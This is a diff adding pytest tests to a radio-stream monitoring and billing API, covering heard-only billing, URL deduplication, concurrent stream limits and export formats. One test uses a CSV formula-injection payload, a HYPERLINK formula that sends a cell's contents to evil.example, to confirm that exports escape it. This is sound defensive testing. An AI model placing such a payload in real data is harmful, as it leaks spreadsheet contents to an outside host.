@@ -7,9 +7,11 @@ from __future__ import annotations
 
 import csv
 import io
+import itertools
 import re
 import uuid
 from collections import Counter
+from concurrent.futures import ThreadPoolExecutor
 from datetime import UTC, date, datetime, timedelta
 from typing import TYPE_CHECKING, Any
 
@@ -20,6 +22,7 @@ from sqlalchemy import func, select
 from account_store.clock import month_of
 from account_store.streams import airings, gaps, runtime
 from account_store.streams.airings import Hearing, PlayedTrack
+from account_store.streams.heard import note_heard
 from account_store.streams.tables import airplay_day, stream
 from catalog_api.airplay.forms import CSV, PARQUET
 from tests.conftest import run_module
@@ -32,6 +35,7 @@ if TYPE_CHECKING:
 STREAMS = "/v1/streams"
 REPORT = "/v1/streams/report"
 PUBLIC = "http://93.184.215.14:8000/live.mp3"
+_numbers = itertools.count(1)
 TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
 NOON = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0)
 
@@ -55,7 +59,7 @@ def account_of(caller: Api) -> int:
 
 
 def new_stream(caller: Api, name: str = "Radio") -> str:
-    answer = caller.post(STREAMS, {"url": PUBLIC, "name": name})
+    answer = caller.post(STREAMS, {"url": f"http://93.184.215.14:8000/{next(_numbers)}.mp3", "name": name})
     assert answer.status_code == 200, answer.text
     identity: str = answer.json()["id"]
     return identity
@@ -403,6 +407,58 @@ def test_g7_days_of_another_time_zone_begin_at_its_midnights(radio: Api) -> None
     assert [row["played_at"] for row in report["streams"][0]["detail"]] == ["2026-10-24T22:00:00Z", "2026-10-25T22:59:59Z"]
 
 
+def test_g1_a_stream_that_was_never_heard_is_not_billed(radio: Api) -> None:
+    silent, before, aired, running = (new_stream(radio) for _ in range(4))
+    for stream_id in (silent, before, aired, running):
+        began(radio, stream_id, NOON - timedelta(days=70))
+    heard(radio, before, month_of(NOON - timedelta(days=65)))
+    air(radio, aired, 1, NOON - timedelta(days=65))
+    assert radio.ask("/v1/usage")["stream_months"] == 0, "heard months ago is not heard this month"
+    heard(radio, running, month_of(datetime.now(UTC)))
+    usage = radio.ask("/v1/usage")
+    assert (usage["stream_months"], usage["stream_price_eur"]) == (1, 29)
+    earlier = radio.accounts.usage.month_now(account_of(radio), month_of(NOON - timedelta(days=65)))
+    assert earlier.stream_months == 2, "an airing was heard by somebody"
+
+
+@pytest.mark.parametrize(
+    ("first", "second", "is_same"),
+    [
+        ("http://93.184.215.14/live", "HTTP://93.184.215.14:80/live#now", True),
+        ("http://radio.example.org:8000/live", "http://RADIO.example.org.:8000/live", True),
+        ("https://radio.example.org", "https://radio.example.org:443/", True),
+        ("http://radio.example.org/a%7eb%2fc", "http://radio.example.org/%61~b%2Fc", True),
+        ("http://radio.example.org/live", "http://radio.example.org/LIVE", False),
+        ("http://radio.example.org/live", "https://radio.example.org/live", False),
+        ("http://radio.example.org/live", "http://radio.example.org:8000/live", False),
+        ("http://radio.example.org/live?x=1", "http://radio.example.org/live", False),
+        ("http://radio.example.org/a%2fb", "http://radio.example.org/a/b", False),
+    ],
+)
+def test_g1_an_address_is_monitored_once_for_an_account(server: Api, radio: Api, first: str, second: str, *, is_same: bool) -> None:
+    made = radio.post(STREAMS, {"url": first, "name": "Radio"}).json()["id"]
+    again = radio.post(STREAMS, {"url": second, "name": "Radio"})
+    if not is_same:
+        assert again.status_code == 200
+        return
+    assert problem(again) == (409, "stream_exists", [])
+    assert again.json()["stream_id"] == made
+    assert with_card(server).post(STREAMS, {"url": first, "name": "Radio"}).status_code == 200, "another account's"
+    radio.request("DELETE", f"{STREAMS}/{made}")
+    assert radio.post(STREAMS, {"url": second, "name": "Radio"}).status_code == 200, "a stopped one is in nobody's way"
+
+
+def test_g1_an_account_has_so_many_active_streams_and_no_more_whoever_comes_at_once(radio: Api) -> None:
+    made = [new_stream(radio) for _ in range(48)]
+    with ThreadPoolExecutor(6) as threads:
+        numbers = range(6)
+        answers = list(threads.map(lambda one: radio.post(STREAMS, {"url": f"http://93.184.215.14/{one}", "name": "r"}), numbers))
+    assert sorted(answer.status_code for answer in answers) == [200] * 2 + [403] * 4
+    assert {problem(answer)[1] for answer in answers if answer.status_code == 403} == {"stream_limit"}
+    radio.request("DELETE", f"{STREAMS}/{made[0]}")
+    assert radio.post(STREAMS, {"url": PUBLIC, "name": "r"}).status_code == 200
+
+
 def test_g7_csv_parquet_and_json_tell_the_same(radio: Api) -> None:
     first, second = new_stream(radio, 'Radio "Amber", Köln'), new_stream(radio, "Radio B")
     new_stream(radio, "Silent")
@@ -439,6 +495,19 @@ def test_g7_csv_parquet_and_json_tell_the_same(radio: Api) -> None:
     assert rows == expected
 
 
+def test_g7_csv_holds_no_formula_and_json_and_parquet_are_exact(radio: Api) -> None:
+    name = '=HYPERLINK("https://evil.example/?"&A1;"Radio");+1'
+    stream_id = new_stream(radio, name)
+    began(radio, stream_id, NOON - timedelta(days=2))
+    air(radio, stream_id, 1, NOON, 30)
+    query = days(NOON - timedelta(days=1), NOON)
+    assert radio.ask(REPORT, **query)["report"]["streams"][0]["name"] == name
+    assert pl.read_parquet(io.BytesIO(ask_report(radio, PARQUET, **query).content))["stream_name"].to_list() == [name]
+    [_, line] = csv.reader(io.StringIO(ask_report(radio, CSV, **query).content.decode(), newline=""))
+    assert line[1] == '\'=HYPERLINK("https://evil.example/?"&A1;"Radio");\'+1'
+    assert line[-1] == "30", "numbers stay numbers"
+
+
 @pytest.mark.parametrize(
     ("accept", "answered"),
     [
@@ -465,11 +534,21 @@ def test_g7_the_report_is_the_accounts_own(server: Api, radio: Api) -> None:
     assert with_card(server).ask(REPORT, **days(NOON, NOON))["report"]["streams"] == []
 
 
-def test_g7_a_stream_is_paid_for_in_every_month_that_it_is_active_in(radio: Api) -> None:
+def heard(caller: Api, stream_id: str, *months: str) -> None:
+    """As its monitor worker notes it."""
+    with caller.accounts._engine.begin() as connection:
+        for month in months:
+            note_heard(connection, stream_id, month)
+
+
+def test_g7_a_stream_is_paid_for_in_every_month_that_it_is_active_and_heard_in(radio: Api) -> None:
     usage = radio.ask("/v1/usage")
     assert (usage["stream_months"], usage["stream_month_price_eur"], usage["stream_price_eur"]) == (0, 29, 0)
     kept, stopped, earlier = (new_stream(radio) for _ in range(3))
     began(radio, kept, NOON - timedelta(days=70))
+    now, then = month_of(datetime.now(UTC)), month_of(NOON - timedelta(days=69))
+    for stream_id in (kept, stopped, earlier):
+        heard(radio, stream_id, now, then)
     for stream_id in (stopped, earlier):
         radio.request("DELETE", f"{STREAMS}/{stream_id}")
     with radio.accounts._engine.begin() as connection:
